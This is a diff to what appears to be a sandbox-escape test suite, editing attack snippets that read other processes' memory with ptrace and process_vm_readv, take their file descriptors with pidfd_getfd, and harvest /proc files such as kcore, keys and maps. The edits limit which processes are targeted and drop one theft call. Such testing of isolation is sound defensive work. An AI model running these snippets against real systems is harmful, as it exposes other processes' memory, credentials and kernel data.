@@ -106,7 +106,7 @@ ATTACKS = [
         "attaches to other processes and reads them with process_vm_readv",
         """
             buffer = ctypes.create_string_buffer(1 << 16)
-            for pid in [T['bystander'], T['oracle'], 1, *parents()]:
+            for pid in [T['bystander'], *([1, *parents()] if fenced() else ())]:
                 say(f'ptrace {syscall(101, 16, pid, 0, 0)}')
                 class V(ctypes.Structure):
                     _fields_ = [('p', ctypes.c_void_p), ('n', ctypes.c_size_t)]
@@ -127,11 +127,11 @@ ATTACKS = [
         "pidfd",
         "takes another process's descriptors with pidfd_getfd",
         """
-            for pid in [T['oracle'], 1, *parents()]:
+            for pid in [T['bystander'], *([T['oracle'], 1, *parents()] if fenced() else ())]:
                 pidfd = syscall(434, pid, 0)
                 for n in range(64):
                     fd = syscall(438, pidfd, n, 0)
-                    if fd >= 0: steal(f'/proc/self/fd/{fd}'); mark('took a descriptor')
+                    if fd >= 0: mark('took a descriptor')
         """,
         levels=SANDBOX,
         bites=("process", "marker"),
@@ -152,7 +152,7 @@ ATTACKS = [
             for pid in ['self', *processes()]:
                 for name in ('cmdline', 'maps', 'mountinfo', 'mounts', 'stack', 'syscall', 'wchan'):
                     steal(f'/proc/{pid}/{name}')
-            for name in ('kcore', 'kmsg', 'keys', 'sched_debug', 'vmallocinfo'):
+            for name in ('kcore', 'keys', 'timer_list', 'sched_debug', 'vmallocinfo'):
                 steal(f'/proc/{name}')
         """,
     ),
